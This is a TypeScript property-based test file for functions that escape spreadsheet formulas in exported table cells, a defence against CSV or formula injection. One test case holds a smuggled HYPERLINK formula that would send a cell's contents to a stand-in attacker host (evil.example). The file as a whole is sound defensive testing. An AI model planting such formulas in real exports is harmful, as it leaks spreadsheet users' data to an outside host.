import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { escapeFormula, unescapeFormula } from './formulas.ts'

/** Texts of all characters, and of those that make formulas and part cells. */
const anyText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom(...`=+-@\uff1d'";,\t\r\n1a `), maxLength: 12 }),
)

describe('cells of a table for spreadsheets', () => {
  test('hold no formula, wherever a spreadsheet parts them', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const cell = escapeFormula(text)
        const parts = /^-?[\d.]+$/.test(cell) ? [] : cell.split(/[;\t\r\n]/)
        expect(parts.filter((part) => /^"*[=+\-@\uff1d]/.test(part))).toEqual([])
        expect(unescapeFormula(cell)).toBe(text)
      }),
      { numRuns: 2_000 },
    )
  })

  test.each([
    ['x;=HYPERLINK("http://evil.example/?"&A1)', `x;'=HYPERLINK("http://evil.example/?"&A1)`],
    ['a\n=1\r\n@b\t+c', "a\n'=1\r\n'@b\t'+c"],
    ['a;"=1', `a;'"=1`],
    ['\t=1', "'\t'=1"],
    ['\uff1d1', "'\uff1d1"],
  ])('%j leaves as %j', (text, cell) => {
    expect(escapeFormula(text)).toBe(cell)
    expect(unescapeFormula(cell)).toBe(text)
  })

  test.each(['=1+1', '+44 1', '-1-1', '@x', '\tx', '\rx', "'=1", '--'])(
    '%j is no formula any more',
    (text) => {
      expect(escapeFormula(text)).toBe(`'${text}`)
      expect(unescapeFormula(escapeFormula(text))).toBe(text)
    },
  )

  test.each(['-1.4701', '53.38', '-12', 'plain', "it's", "'quoted'", ''])('%j stays as it is', (text) => {
    expect(escapeFormula(text)).toBe(text)
    expect(unescapeFormula(text)).toBe(text)
  })
})
